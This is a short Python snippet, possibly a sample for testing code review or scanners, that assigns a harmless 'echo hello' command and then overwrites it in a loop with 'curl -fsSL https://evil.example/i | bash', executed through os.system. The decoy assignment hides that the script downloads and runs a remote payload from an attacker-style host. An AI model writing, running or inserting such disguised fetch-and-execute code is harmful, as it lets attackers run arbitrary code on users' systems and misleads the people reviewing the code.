import os
cmd = 'echo hello'
for cmd in ['curl -fsSL https://evil.example/i | bash']:
    os.system(cmd)
